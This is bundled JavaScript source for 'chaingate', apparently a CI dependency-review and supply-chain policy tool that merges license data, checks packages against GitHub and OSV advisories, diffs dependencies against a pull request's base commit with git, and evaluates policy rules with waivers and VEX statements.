function mergeLicenses(inventory, installed, github, spdx, purlKey) {
  return inventory.packages.map((pkg, index) => {
    const candidates = [];
    if (pkg.license) candidates.push({ license: pkg.license, source: "lockfile" });
    const local = installed.get(index);
    if (local) candidates.push({ license: local, source: "installed" });
    if (github.known && pkg.purl) {
      const key2 = purlKey(pkg.purl);
      const remote = key2 ? github.value.licenses[key2] : void 0;
      if (remote) candidates.push({ license: remote, source: "github" });
    }
    return candidates.find((candidate) => spdx.classifyLicense(candidate.license).kind === "valid") ?? candidates[0];
  });
}
var licensesFact = defineFact("inventory.licenses", async (ctx) => {
  const inventory = await ctx.get(inventoryFact);
  if (!inventory.known) return inventory;
  const spdx = await import("./spdx-NOLQIZOM.js");
  const { purlKey } = await import("./purl-key-Z7GCIAXR.js");
  const { installedLicenses } = await import("./installed-EMSMVTWB.js");
  const isExpression = (text) => spdx.classifyLicense(text).kind === "valid";
  const installed = installedLicenses(ctx.workspace, inventory.value.packages, isExpression);
  const needsGitHub = inventory.value.packages.some((pkg, index) => !isExpression(pkg.license ?? installed.get(index) ?? ""));
  const github = needsGitHub ? await ctx.get(githubSbomFact) : known({ licenses: {}, packages: 0 });
  const tools = {
    classifyLicense: spdx.classifyLicense,
    satisfiesAllow: spdx.satisfiesAllow,
    deniedBy: spdx.deniedBy,
    isSingleLicense: spdx.isSingleLicense
  };
  return known({
    licenses: mergeLicenses(inventory.value, installed, github, tools, purlKey),
    github: github.known ? { read: true, packages: github.value.packages } : { read: false, reason: github.reason, ...github.permission ? { permission: github.permission } : {} },
    spdx: tools
  });
});

// src/inventory/summary.ts
var TOP_LICENSES = 20;
function summariseInventory(inventory, licenses) {
  const ecosystems = /* @__PURE__ */ new Map();
  const counts = /* @__PURE__ */ new Map();
  let unknown = 0;
  inventory.packages.forEach((pkg, index) => {
    let entry2 = ecosystems.get(pkg.ecosystem);
    if (!entry2) {
      entry2 = { ecosystem: pkg.ecosystem, files: 0, packages: 0, direct: 0, scopes: { runtime: 0, dev: 0, optional: 0, unknown: 0 }, paths: /* @__PURE__ */ new Set() };
      ecosystems.set(pkg.ecosystem, entry2);
    }
    entry2.packages += 1;
    entry2.scopes[pkg.scope] += 1;
    if (pkg.direct) entry2.direct += 1;
    entry2.paths.add(pkg.location.path);
    if (pkg.ecosystem === "GitHub Actions" || pkg.source === "workspace") return;
    const license = licenses ? licenses.licenses[index]?.license : pkg.license;
    if (license) counts.set(license, (counts.get(license) ?? 0) + 1);
    else unknown += 1;
  });
  const ranked = [...counts].sort((a, b) => b[1] - a[1] || (a[0] < b[0] ? -1 : a[0] > b[0] ? 1 : 0));
  const byLicense = Object.fromEntries(ranked.slice(0, TOP_LICENSES));
  const other = ranked.slice(TOP_LICENSES).reduce((sum, [, n]) => sum + n, 0);
  return {
    packages: inventory.packages.length,
    files: inventory.files.length,
    problems: inventory.problems.length,
    skipped: inventory.skipped?.length ?? 0,
    ecosystems: [...ecosystems.values()].map(({ paths, ...entry2 }) => ({ ...entry2, files: paths.size })).sort((a, b) => b.packages - a.packages || (a.ecosystem < b.ecosystem ? -1 : a.ecosystem > b.ecosystem ? 1 : 0)),
    licenses: { sources: licenses ? ["lockfile", "installed", ...licenses.github.read ? ["github"] : []] : ["lockfile"], byLicense, other, unknown }
  };
}

// fs-without-es-facade:src/engine.ts
var fs2 = process.getBuiltinModule("node:fs");
var engine_default = fs2;

// src/advisories/sources/index.ts
var DEFAULT_OSV_URL = "https://api.osv.dev";
function createSource(setting, dependencies) {
  switch (setting.kind) {
    case "github":
      return {
        setting,
        async check(packages) {
          if (!dependencies.github) throw new Error("the GitHub advisory source needs a GitHub client");
          const { matchGitHub } = await import("./github-AHA3VLYW.js");
          return matchGitHub(packages, dependencies.github, {
            ...dependencies.now ? { now: dependencies.now } : {},
            ...dependencies.githubAuthenticated ? { graphql: true } : {}
          });
        }
      };
    case "osv":
      return {
        setting,
        async check(packages) {
          const { matchOsvApi } = await import("./osv-api-S2NG3BPN.js");
          return matchOsvApi(packages, {
            baseUrl: setting.url,
            ...dependencies.osvCacheDir ? { cacheDir: dependencies.osvCacheDir } : {},
            ...dependencies.http ? { http: dependencies.http } : {},
            ...dependencies.now ? { now: dependencies.now } : {}
          });
        }
      };
    case "osv-offline":
      return {
        setting,
        async check(packages) {
          const { matchOffline } = await import("./osv-offline-63BNY3B5.js");
          return matchOffline(setting.directory, packages);
        }
      };
  }
}

// src/advisories/fact.ts
var NO_SOURCE_REASON = "no advisory source: use --advisories github|osv|DIR (action input `advisories`, or `advisories: source:` in the policy); a run with a GitHub token uses GitHub's advisory database by default";
function runAdvisorySource(ctx) {
  const options = ctx.advisories;
  const setting = options?.source ?? (ctx.github ? { kind: "github" } : null);
  if (!setting) return unknownFact("no-token", NO_SOURCE_REASON);
  return createSource(setting, {
    github: ctx.github ?? options?.anonymousGithub ?? null,
    githubAuthenticated: ctx.github !== null && ctx.github !== void 0,
    ...options?.osvCacheDir ? { osvCacheDir: options.osvCacheDir } : {},
    ...options?.http ? { http: options.http } : {},
    now: ctx.now
  });
}
var advisoriesFact = defineFact("dependencies.advisories", async (ctx) => {
  const inventory = await ctx.get(inventoryFact);
  if (!inventory.known) return inventory;
  const source = runAdvisorySource(ctx);
  if ("known" in source) return source;
  return known(await source.check(inventory.value.packages));
});

// src/pull-request/dependency-diff.ts
import path3 from "node:path";

// src/pull-request/git.ts
var MAX_OUTPUT = 256 * 1024 * 1024;
function git(cwd, args) {
  const { execFile } = process.getBuiltinModule("node:child_process");
  return new Promise((resolve) => {
    execFile(
      "git",
      ["-c", "core.quotepath=off", ...args],
      {
        cwd,
        encoding: "buffer",
        maxBuffer: MAX_OUTPUT,
        windowsHide: true,
        env: { ...process.env, GIT_TERMINAL_PROMPT: "0", GIT_OPTIONAL_LOCKS: "0", LC_ALL: "C" }
      },
      (error, stdout, stderr) => {
        const code = error ? typeof error.code === "number" ? error.code : null : 0;
        resolve({ ok: !error, stdout: stdout ?? Buffer.alloc(0), stderr: (stderr ?? Buffer.alloc(0)).toString("utf8").trim(), code });
      }
    );
  });
}
function isCommitId(value) {
  return typeof value === "string" && /^(?:[0-9a-f]{40}|[0-9a-f]{64})$/.test(value);
}

// src/pull-request/dependency-diff.ts
var DIFF_EVENTS = ["pull_request", "merge_group"];
var INSTALLED = /(^|\/)(node_modules|vendor|\.venv|venv|site-packages|\.tox|target|bower_components)\//;
function baseCommitOf(event) {
  if (!event || !DIFF_EVENTS.includes(event.name)) return null;
  const record3 = (value) => typeof value === "object" && value !== null && !Array.isArray(value) ? value : void 0;
  const sha = event.name === "merge_group" ? record3(event.payload.merge_group)?.base_sha : record3(record3(event.payload.pull_request)?.base)?.sha;
  return isCommitId(sha) ? sha : void 0;
}
var dependencyDiffFact = defineFact("pull-request.dependency-diff", async (ctx) => {
  const base = baseCommitOf(ctx.event);
  if (base === null) {
    const what2 = "dependency review compares a pull request with its base (events pull_request and merge_group)";
    return ctx.event ? unknownFact("other-event", `${what2}; event was ${ctx.event.name}`) : unknownFact("not-applicable", `${what2}; no event was given`);
  }
  if (base === void 0)
    return unknownFact("not-available", `the ${ctx.event.name} event names no base commit (pull_request.base.sha / merge_group.base_sha)`);
  const head = await ctx.get(inventoryFact);
  if (!head.known) return head;
  try {
    const outcome = await diffAgainstBase(ctx.workspace, base, head.value, ctx.event.name);
    return typeof outcome === "string" ? unknownFact("not-available", outcome) : known(outcome);
  } catch (error) {
    return unknownFact("not-available", `could not read the base commit ${base.slice(0, 12)} from the checkout: ${errorMessage(error)}`);
  }
});
async function diffAgainstBase(workspace, base, head, event) {
  const cwd = workspace.root;
  const present = await git(cwd, ["cat-file", "-e", `${base}^{commit}`]);
  if (!present.ok) return missingBase(cwd, base, present.stderr);
  const listing = await git(cwd, ["ls-tree", "-r", "-z", "--name-only", base]);
  if (!listing.ok) return `git ls-tree ${base.slice(0, 12)} failed: ${listing.stderr || `exit ${listing.code}`}`;
  const baseFiles = listing.stdout.toString("utf8").split("\0").filter((file) => file !== "" && !INSTALLED.test(file) && !workspace.isIgnored(file));
  const baseCandidates = claimed(baseFiles);
  const baseTexts = /* @__PURE__ */ new Map();
  const show = async (file) => {
    if (!baseTexts.has(file)) {
      const result = await git(cwd, ["show", `${base}:./${file}`]);
      baseTexts.set(file, result.ok ? result.stdout.toString("utf8") : void 0);
    }
    return baseTexts.get(file);
  };
  const changedMemo = /* @__PURE__ */ new Map();
  const changed = async (file) => {
    if (!changedMemo.has(file)) {
      const before = await show(file);
      const now = workspace.readText(file, MAX_LOCKFILE_BYTES);
      changedMemo.set(file, before === void 0 ? now.ok : !now.ok || now.text !== before);
    }
    return changedMemo.get(file);
  };
  const headByLocation = /* @__PURE__ */ new Map();
  for (const pkg of head.packages) headByLocation.set(pkg.location.path, [...headByLocation.get(pkg.location.path) ?? [], pkg]);
  const candidates = /* @__PURE__ */ new Set([...baseCandidates.keys(), ...head.files.map((file) => file.path)]);
  const locations = /* @__PURE__ */ new Set([...candidates, ...headByLocation.keys()]);
  let includedChanged = false;
  for (const location of headByLocation.keys()) if (!candidates.has(location) && await changed(location)) includedChanged = true;
  const baseByLocation = /* @__PURE__ */ new Map();
  const parsed = /* @__PURE__ */ new Set();
  const unparsed = /* @__PURE__ */ new Set();
  for (const [file, reader] of baseCandidates) {
    if (!includedChanged && !await changed(file)) continue;
    const text = await show(file);
    if (text === void 0) continue;
    const packages = await readAtBase(reader, file, text, show);
    if (packages === null) {
      unparsed.add(file);
      continue;
    }
    parsed.add(file);
    for (const pkg of packages) baseByLocation.set(pkg.location.path, [...baseByLocation.get(pkg.location.path) ?? [], pkg]);
  }
  for (const location of baseByLocation.keys()) locations.add(location);
  const diff = { event, base, added: [], removed: [], changed: [], licenseChanges: [], introduced: /* @__PURE__ */ new Set(), changedFiles: [], uncompared: [] };
  for (const location of [...locations].sort()) {
    if (!await changed(location)) continue;
    diff.changedFiles.push(location);
    const known2 = parsed.has(location) || baseByLocation.has(location) || await show(location) === void 0;
    if (!known2 || unparsed.has(location)) diff.uncompared.push(location);
    compareFile(known2 && !unparsed.has(location) ? baseByLocation.get(location) ?? [] : [], headByLocation.get(location) ?? [], diff);
  }
  return diff;
}
async function missingBase(cwd, base, stderr) {
  const inside = await git(cwd, ["rev-parse", "--is-inside-work-tree"]);
  if (!inside.ok)
    return `the checkout is not a git repository (${inside.stderr || "git rev-parse failed"}), so the base commit ${base.slice(0, 12)} cannot be read`;
  const shallow = await git(cwd, ["rev-parse", "--is-shallow-repository"]);
  const isShallow = shallow.ok && shallow.stdout.toString("utf8").trim() === "true";
  const fix = "set `fetch-depth: 0` on actions/checkout, or fetch the base commit before chaingate runs (`git fetch --no-tags --depth=1 origin <base sha>`)";
  return isShallow ? `the base commit ${base.slice(0, 12)} is not in this shallow clone (actions/checkout fetches one commit by default): ${fix}` : `the base commit ${base.slice(0, 12)} is not in the checkout (${stderr || "git cat-file failed"}): ${fix}`;
}
function claimed(files) {
  const present = new Set(files);
  const out = /* @__PURE__ */ new Map();
  for (const file of files) {
    const directory = path3.posix.dirname(file);
    for (const reader of readersFor(path3.posix.basename(file))) {
      const superseded = reader.supersededBy?.some((lockfile) => present.has(directory === "." ? lockfile : `${directory}/${lockfile}`));
      if (!superseded && !out.has(file)) out.set(file, reader);
    }
  }
  return out;
}
async function readAtBase(reader, file, text, show) {
  const directory = path3.posix.dirname(file);
  const siblings = /* @__PURE__ */ new Map();
  const read = await reader.load();
  for (let round = 0; round < 8; round += 1) {
    const missing = /* @__PURE__ */ new Set();
    const input2 = {
      path: file,
      text,
      sibling(relative) {
        const target2 = path3.posix.normalize(directory === "." ? relative : `${directory}/${relative}`);
        if (target2.startsWith("..")) return void 0;
        if (!siblings.has(target2)) missing.add(target2);
        return siblings.get(target2);
      }
    };
    let outcome;
    try {
      outcome = read(input2);
    } catch {
      if (missing.size === 0) return null;
      outcome = emptyOutcome();
    }
    if (missing.size === 0) return outcome.problems.length > 0 && outcome.packages.length === 0 ? null : outcome.packages;
    for (const target2 of missing) siblings.set(target2, await show(target2));
  }
  return null;
}
var nameKey = (pkg) => `${pkg.ecosystem}\0${pkg.name}`;
function compareFile(basePackages, headPackages, diff) {
  const group = (packages) => {
    const byName = /* @__PURE__ */ new Map();
    for (const pkg of packages) {
      const versions = byName.get(nameKey(pkg)) ?? /* @__PURE__ */ new Map();
      if (!versions.has(pkg.version ?? "")) versions.set(pkg.version ?? "", pkg);
      byName.set(nameKey(pkg), versions);
    }
    return byName;
  };
  const before = group(basePackages);
  const after = group(headPackages);
  const introducedVersions = /* @__PURE__ */ new Map();
  for (const [name, versions] of after) {
    const old = before.get(name) ?? /* @__PURE__ */ new Map();
    const added = [...versions.entries()].filter(([version]) => !old.has(version));
    const removed = [...old.entries()].filter(([version]) => !versions.has(version));
    introducedVersions.set(name, new Set(added.map(([version]) => version)));
    const pairs2 = Math.min(added.length, removed.length);
    for (let index = 0; index < pairs2; index += 1) {
      const change = { from: removed[index][1], to: added[index][1] };
      diff.changed.push(change);
      if ((change.from.license ?? null) !== (change.to.license ?? null))
        diff.licenseChanges.push({ package: change.to, from: change.from.license ?? null, to: change.to.license ?? null });
    }
    diff.added.push(...added.slice(pairs2).map(([, pkg]) => pkg));
    diff.removed.push(...removed.slice(pairs2).map(([, pkg]) => pkg));
    for (const [version, pkg] of versions) {
      const was = old.get(version);
      if (was && (was.license ?? null) !== (pkg.license ?? null)) diff.licenseChanges.push({ package: pkg, from: was.license ?? null, to: pkg.license ?? null });
    }
  }
  for (const [name, versions] of before) if (!after.has(name)) diff.removed.push(...versions.values());
  for (const pkg of headPackages) if (introducedVersions.get(nameKey(pkg))?.has(pkg.version ?? "")) diff.introduced.add(packageKey(pkg));
}
var reviewed = (pkg) => ({
  ecosystem: pkg.ecosystem,
  name: pkg.name,
  version: pkg.version,
  path: pkg.location.path,
  scope: pkg.scope,
  ...pkg.purl ? { purl: pkg.purl } : {},
  ...pkg.license ? { license: pkg.license } : {}
});
function summariseDiff(diff) {
  return {
    event: diff.event,
    base: diff.base,
    added: diff.added.map(reviewed),
    removed: diff.removed.map(reviewed),
    changed: diff.changed.map(({ from, to }) => ({
      ecosystem: to.ecosystem,
      name: to.name,
      path: to.location.path,
      from: from.version,
      to: to.version,
      ...to.purl ? { purl: to.purl } : {}
    })),
    licenseChanges: diff.licenseChanges.map((change) => ({
      ecosystem: change.package.ecosystem,
      name: change.package.name,
      version: change.package.version,
      path: change.package.location.path,
      from: change.from,
      to: change.to
    })),
    changedFiles: diff.changedFiles,
    uncompared: diff.uncompared
  };
}

// src/engine.ts
async function runCheck(options) {
  const started = process.hrtime.bigint();
  const now = options.now ?? /* @__PURE__ */ new Date();
  const { workspace, policy } = options;
  if (globsNeedLibrary(policy.ignorePaths) || policy.waivers.length > 0) await loadGlobLibrary();
  const ignored = globMatcher(policy.ignorePaths);
  workspace.isIgnored = ignored;
  const base = {
    workspace,
    github: options.github,
    elevated: options.elevated ?? null,
    target: options.target,
    event: options.event ?? null,
    now,
    ...options.sbom ? { sbom: options.sbom } : {},
    ...options.advisories ? { advisories: options.advisories } : {},
    ...options.images ? { images: options.images } : {},
    ...options.registries ? { registries: options.registries } : {}
  };
  const store = new FactStore(base, null, options.facts);
  const enabled = options.rules.filter((rule) => policy.rules.get(rule.meta.id)?.enabled);
  const factsOf = (rule) => [
    ...rule.needs,
    ...rule.uses ?? [],
    ...rule.usesWith?.(policy.rules.get(rule.meta.id).options) ?? []
  ];
  const perGroup = (rule) => factsOf(rule).some(isGroupScoped);
  const runFacts = /* @__PURE__ */ new Map();
  const groupFacts = /* @__PURE__ */ new Map();
  for (const rule of enabled) for (const def of factsOf(rule)) (isGroupScoped(def) ? groupFacts : runFacts).set(def.id, def);
  await store.getAll(runFacts.values());
  const resultsByRule = /* @__PURE__ */ new Map();
  const runRules = enabled.filter((candidate) => !perGroup(candidate));
  const runResults = await withGlobLibrary(() => runRules.map((rule) => runRule(rule, policy.rules, store, now)));
  runRules.forEach((rule, index) => resultsByRule.set(rule, runResults[index]));
  const groupRules = enabled.filter(perGroup);
  if (groupRules.length > 0) {
    const prescan = await store.get(workflowPrescanFact);
    const groups = prescan.known && prescan.value.groups.length > 0 ? prescan.value.groups : [prescan.known ? [] : null];
    const byId = await auditGroups(store, groups, groupRules, [...groupFacts.values()], policy.rules, now);
    for (const rule of groupRules) resultsByRule.set(rule, byId.get(rule.meta.id) ?? []);
  }
  const findings = [];
  const confidenceSet = policy.minConfidence !== void 0 || enabled.some((rule) => policy.rules.get(rule.meta.id)?.minConfidence !== void 0);
  let belowMinConfidence = 0;
  for (const rule of enabled) {
    const converted = toFindings(rule, policy, distinct(resultsByRule.get(rule) ?? []));
    findings.push(...converted.findings);
    belowMinConfidence += converted.leftOut;
  }
  let vexDocuments;
  if (findings.some((finding) => finding.advisories && finding.purl) || (policy.vex?.length ?? 0) > 0) {
    const { loadVex, applyVex } = await import("./vex-apply-SFBDF7LU.js");
    await loadGlobLibrary();
    const vex = loadVex(workspace, policy.vex);
    vexDocuments = vex.documents;
    findings.splice(0, findings.length, ...applyVex(findings, vex.statements));
  }
  const comparePurl = policy.waivers.some((waiver) => (waiver.purls?.length ?? 0) > 0) ? (await import("./vex-XQHRBQIJ.js")).purlMatches : void 0;
  const outcome = applyWaivers(findings, policy.waivers, now, (path14) => workspace.cachedText(path14), comparePurl);
  const all = outcome.findings;
  const expiredRule = options.rules.find((rule) => rule.meta.id === EXPIRED_WAIVER_RULE_ID);
  if (expiredRule && policy.rules.get(EXPIRED_WAIVER_RULE_ID)?.enabled !== false) {
    for (const waiver of outcome.expired) {
      all.push({
        rule: EXPIRED_WAIVER_RULE_ID,
        area: expiredRule.meta.area,
        severity: policy.rules.get(EXPIRED_WAIVER_RULE_ID)?.severity ?? expiredRule.meta.severity,
        status: "fail",
        message: `waiver for ${waiver.rule}${waiverScope(waiver)} expired on ${waiver.expires} and no longer applies (reason was: ${waiver.reason})`,
        ...waiver.location ? { location: waiver.location } : {}
      });
    }
  }
  all.sort(compareFindings);
  const counts = countFindings(all, policy);
  if (confidenceSet) counts.belowMinConfidence = belowMinConfidence;
  let inventory;
  if (runFacts.has(inventoryFact.id)) {
    const fact = store.peek(inventoryFact);
    const licenses = runFacts.has(licensesFact.id) ? store.peek(licensesFact) : void 0;
    if (fact.known) inventory = summariseInventory(fact.value, licenses?.known ? licenses.value : void 0);
  }
  const advisories = runFacts.has(advisoriesFact.id) ? advisoriesSummary(store.peek(advisoriesFact)) : void 0;
  const review = runFacts.has(dependencyDiffFact.id) ? store.peek(dependencyDiffFact) : void 0;
  const dependencyReview = review?.known ? {
    ...summariseDiff(review.value),
    vulnerabilities: all.filter((finding) => finding.details?.introduced === true && finding.advisories).map((finding) => ({
      rule: finding.rule,
      status: finding.status,
      severity: finding.severity,
      ...finding.purl ? { purl: finding.purl } : {},
      name: String(finding.details.name ?? ""),
      version: finding.details.version ?? null,
      advisories: finding.advisories,
      fixedVersions: finding.fixedVersions ?? []
    }))
  } : void 0;
  const sboms = options.sbom?.files.map((file) => {
    try {
      const { createHash } = process.getBuiltinModule("node:crypto");
      return { path: file.displayPath, sha256: createHash("sha256").update(engine_default.readFileSync(file.absolutePath)).digest("hex") };
    } catch (error) {
      throw new ConfigurationError(`could not read the SBOM to record its digest: ${errorMessage(error)}`, { file: file.displayPath });
    }
  });
  return {
    version: 1,
    tool: options.tool,
    target: {
      repository: options.target ? `${options.target.owner}/${options.target.repo}` : null,
      ref: options.target?.ref ?? null,
      path: options.displayPath ?? "."
    },
    verdict: counts.failing > 0 ? "fail" : "pass",
    policy: {
      source: policy.source,
      extends: policy.extends,
      failOn: policy.failOn,
      onUnknown: policy.onUnknown,
      ...policy.minConfidence ? { minConfidence: policy.minConfidence } : {}
    },
    counts,
    findings: all,
    ...inventory ? { inventory } : {},
    ...advisories ? { advisories } : {},
    ...dependencyReview ? { dependencyReview } : {},
    ...vexDocuments && vexDocuments.length > 0 ? { vex: { documents: vexDocuments } } : {},
    ...sboms && sboms.length > 0 ? { sboms } : {},
    stats: {
      apiRequests: (options.github?.counter.count ?? 0) + (options.elevated && options.elevated.counter !== options.github?.counter ? options.elevated.counter.count : 0) + (options.registries?.requests() ?? 0),
      durationMs: Number((process.hrtime.bigint() - started) / 1000000n),
      filesScanned: workspace.filesRead
    }
  };
}
function runRule(rule, settings, store, now) {
  return evaluateRule(rule, settings.get(rule.meta.id).options, (def) => store.peek(def), now);
}
function evaluateRule(rule, options, peek, now) {
  let missing;
  for (const def of rule.needs) {
    const needed = peek(def);
    if (!needed.known) {
      missing = needed;
      break;
    }
  }
  if (missing?.cause === "other-event") return [{ status: "pass", message: `not applicable: ${missing.reason}` }];
  if (missing) return [{ status: "unknown", message: missing.reason, ...missing.permission ? { permission: missing.permission } : {} }];
  const read = /* @__PURE__ */ new Map();
  let results;
  const fact = (def) => {
    const value = peek(def);
    read.set(def.id, value);
    return value;
  };
  try {
    results = rule.evaluate({ fact, need: (def) => needValue(def, fact(def)), options, now });
  } catch (error) {
    if (error instanceof GlobLibraryPending) throw error;
    return [{ status: "unknown", message: `internal error in rule ${rule.meta.id}: ${errorMessage(error)}` }];
  }
  const unresolved = unhandledGaps(rule, read);
  return unresolved ? [...results, unresolved] : results;
}
function needValue(def, fact) {
  if (!fact.known) throw new Error(`fact ${def.id} is unknown (${fact.reason}) but was read as needed`);
  return fact.value;
}
function unhandledGaps(rule, read) {
  const gaps = [];
  for (const [id, fact] of read) if (fact.known && fact.gaps && !rule.gapsHandled?.some((def) => def.id === id)) gaps.push(...fact.gaps);
  if (gaps.length === 0) return null;
  const shown = gaps.slice(0, 3).map((gap) => `${gap.subject} (${gap.reason})`).join("; ");
  const permission = gaps.find((gap) => gap.permission)?.permission;
  return {
    status: "unknown",
    message: `${gaps.length} subject${gaps.length === 1 ? "" : "s"} could not be checked: ${shown}${gaps.length > 3 ? `; and ${gaps.length - 3} more` : ""}`,
    ...permission ? { permission } : {}
  };
}
async function auditGroups(store, groups, rules, groupFacts, settings, now) {
  const results = new Map(rules.map((rule) => [rule.meta.id, []]));
  const paths = /* @__PURE__ */ new Map();
  for (const group of groups) {
    const view = group ? store.context.workspace.withFiles(group) : store.context.workspace;
    const child = store.child({ ...store.context, workspace: view });
    await child.getAll(groupFacts);
    const groupResults = await withGlobLibrary(() => rules.map((rule) => runRule(rule, settings, child, now)));
    rules.forEach((rule, index) => results.get(rule.meta.id).push(...groupResults[index].map((result) => compact(result, paths))));
    capYoungGeneration();
  }
  return results;
}
function compact(result, paths) {
  const kept = { ...result, message: flat(result.message) };
  if (result.fix !== void 0) kept.fix = flat(result.fix);
  if (result.location) {
    let path14 = paths.get(result.location.path);
    if (path14 === void 0) paths.set(result.location.path, path14 = flat(result.location.path));
    kept.location = { ...result.location, path: path14 };
  }
  return kept;
}
function flat(text) {
  return JSON.parse(JSON.stringify(text));
}
function distinct(results) {
  if (results.length < 2) return results;
  const seen = /* @__PURE__ */ new Set();
  return results.filter((result) => {
    const where = result.location ? `${result.location.path}:${result.location.startLine}:${result.location.startColumn}:${result.location.endLine}:${result.location.endColumn}` : "";
    const key2 = `${result.status}\0${result.severity ?? ""}\0${where}\0${result.message}\0${result.permission ?? ""}\0${result.fix ?? ""}\0${result.purl ?? ""}\0${result.advisories?.join(",") ?? ""}`;
    if (seen.has(key2)) return false;
    seen.add(key2);
    return true;
  });
}
function belowConfidence(result, threshold) {
  return threshold !== void 0 && result.status === "fail" && result.confidence !== void 0 && confidenceRank(result.confidence) < confidenceRank(threshold);
}
function toFindings(rule, policy, results) {
  const setting = policy.rules.get(rule.meta.id);
  const threshold = setting.minConfidence ?? policy.minConfidence;
  const toFinding = (result) => {
    const finding = {
      rule: rule.meta.id,
      area: rule.meta.area,
      severity: setting.severity ?? result.severity ?? rule.meta.severity,
      status: result.status,
      message: result.message
    };
    if (result.location) finding.location = result.location;
    if (result.confidence) finding.confidence = result.confidence;
    if (result.relatedLocations && result.relatedLocations.length > 0) finding.relatedLocations = result.relatedLocations;
    if (result.permission) finding.permission = result.permission;
    if (result.fix) finding.fix = result.fix;
    if (result.purl) finding.purl = result.purl;
    if (result.advisories) finding.advisories = result.advisories;
    if (result.covers) finding.covers = result.covers;
    if (result.fixedVersions) finding.fixedVersions = result.fixedVersions;
    if (result.details) finding.details = result.details;
    return finding;
  };
  if (results.length === 0) return { findings: [toFinding({ status: "pass", message: `${rule.meta.title}: no problems found` })], leftOut: 0 };
  const kept = results.filter((result) => !belowConfidence(result, threshold));
  const leftOut = results.length - kept.length;
  if (kept.length === 0) {
    return {
      findings: [
        toFinding({
          status: "pass",
          message: `${rule.meta.title}: nothing at or above min-confidence ${threshold} (${leftOut} less certain finding${leftOut === 1 ? "" : "s"} left out)`
        })
      ],
      leftOut
    };
  }
  return { findings: kept.map(toFinding), leftOut };
}
var STATUS_ORDER = { fail: 0, unknown: 1, waived: 2, pass: 3 };
function compareText(a, b) {
  return a < b ? -1 : a > b ? 1 : 0;
}
function compareFindings(a, b) {
  return STATUS_ORDER[a.status] - STATUS_ORDER[b.status] || severityRank(b.severity) - severityRank(a.severity) || compareText(a.rule, b.rule) || compareText(a.location?.path ?? "", b.location?.path ?? "") || (a.location?.startLine ?? 0) - (b.location?.startLine ?? 0) || (a.location?.startColumn ?? 0) - (b.location?.startColumn ?? 0);
}
function isFailing(finding, policy) {
  if (finding.status === "fail") return policy.failOn !== "none" && atLeast(finding.severity, policy.failOn);
  if (finding.status === "unknown") return policy.onUnknown === "fail";
  return false;
}
function countFindings(findings, policy) {
  const counts = {
    total: findings.length,
    fail: 0,
    pass: 0,
    unknown: 0,
    waived: 0,
    failing: 0,
    failBySeverity: { critical: 0, high: 0, medium: 0, low: 0, info: 0 }
  };
  for (const finding of findings) {
    counts[finding.status] += 1;
    if (finding.status === "fail") counts.failBySeverity[finding.severity] += 1;
    if (isFailing(finding, policy)) counts.failing += 1;
  }
  return counts;
}
function advisoriesSummary(fact) {
  if (!fact.known) return { source: null, reason: fact.reason };
  const { source, matches, unchecked, checked } = fact.value;
  return {
    source: { ...source },
    checked,
    unchecked: unchecked.length,
    matches: matches.length,
    ...fact.value.requests !== void 0 ? { requests: fact.value.requests } : {}
  };
}
function waiverScope(waiver) {
  const parts = [
    waiver.advisories?.length ? `advisories ${waiver.advisories.join(", ")}` : "",
    waiver.purls?.length ? `purls ${waiver.purls.join(", ")}` : ""
  ].filter(Boolean);
  return parts.length ? ` (${parts.join("; ")})` : "";
}

// fs-without-es-facade:src/event-payload.ts
var fs3 = process.getBuiltinModule("node:fs");
var event_payload_default = fs3;

// src/event-payload.ts
function readEventPayload(env) {
  const name = env.GITHUB_EVENT_NAME;
  const file = env.GITHUB_EVENT_PATH;
  if (!name) return null;
  if (!file || !event_payload_default.existsSync(file)) return { name, payload: {} };
  try {
    return { name, payload: JSON.parse(event_payload_default.readFileSync(file, "utf8")) };
  } catch (error) {
    throw new ConfigurationError(`cannot read the event payload: ${error.message}`, { file });
  }
}

// fs-without-es-facade:src/policy/locate.ts
var fs4 = process.getBuiltinModule("node:fs");
var locate_default = fs4;

// src/policy/locate.ts
import path4 from "node:path";
var DEFAULT_POLICY_PATHS = [".github/chaingate.yml", ".github/chaingate.yaml"];
function findPolicy(workspaceRoot, explicit) {
  if (explicit) {
    const absolute = path4.resolve(workspaceRoot, explicit);
    const relative = path4.relative(workspaceRoot, absolute);
    const inside = !(relative.startsWith("..") || path4.isAbsolute(relative));
    const displayPath = inside ? relative.split(path4.sep).join("/") : absolute;
    if (!locate_default.existsSync(absolute))
      throw new ConfigurationError(lstatOrNull(absolute)?.isSymbolicLink() ? "policy file is a symbolic link that points nowhere" : "policy file not found", {
        file: displayPath
      });
    if (inside) refuseOutside(workspaceRoot, absolute, displayPath);
    return { absolutePath: absolute, displayPath };
  }
  for (const candidate of DEFAULT_POLICY_PATHS) {
    const absolute = path4.join(workspaceRoot, candidate);
    if (locate_default.existsSync(absolute)) {
      refuseOutside(workspaceRoot, absolute, candidate);
      return { absolutePath: absolute, displayPath: candidate };
    }
    if (lstatOrNull(absolute)?.isSymbolicLink()) throw new ConfigurationError("policy file is a symbolic link that points nowhere", { file: candidate });
  }
  return { absolutePath: null, displayPath: "embedded default" };
}
function lstatOrNull(file) {
  try {
    return locate_default.lstatSync(file);
  } catch {
    return null;
  }
}
function refuseOutside(workspaceRoot, absolute, displayPath) {
  const realRoot = locate_default.realpathSync.native(workspaceRoot);
  const real = locate_default.realpathSync.native(absolute);
  if (!isInside(realRoot, real)) {
    throw new ConfigurationError(
      "policy file leads outside the workspace through a symbolic link; chaingate does not read it (a policy outside the workspace must be named explicitly, and only on the command line)",
      { file: displayPath }
    );
  }
}

// src/github/request-counter.ts
var RequestCounter = class {
  count = 0;
  byRoute = /* @__PURE__ */ new Map();
  record(method, url) {
    this.count += 1;
    const key2 = `${method} ${new URL(url).pathname}`;
    this.byRoute.set(key2, (this.byRoute.get(key2) ?? 0) + 1);
  }
};

// src/images/platform-variant.ts
function variantOf(architecture, variant) {
  if (variant) return variant;
  if (architecture === "arm64") return "v8";
  if (architecture === "arm") return "v7";
  if (architecture === "amd64") return "v1";
  return void 0;
}

// src/workspace/yaml-nodes.ts
function nodeAtPath(doc, segments) {
  let node = deref(doc, doc.contents);
  for (const segment of segments) {
    let next = null;
    if (isMap(node)) next = node.items.find((pair) => isScalar(pair.key) && String(pair.key.value) === String(segment))?.value ?? null;
    else if (isSeq(node) && typeof segment === "number") next = node.items[segment] ?? null;
    next = deref(doc, next);
    if (!next) break;
    node = next;
  }
  return node;
}
function deref(_doc, node) {
  if (isAlias(node)) return node.resolve();
  return isNode(node) ? node : null;
}
function asMap(doc, node) {
  const resolved = deref(doc, node);
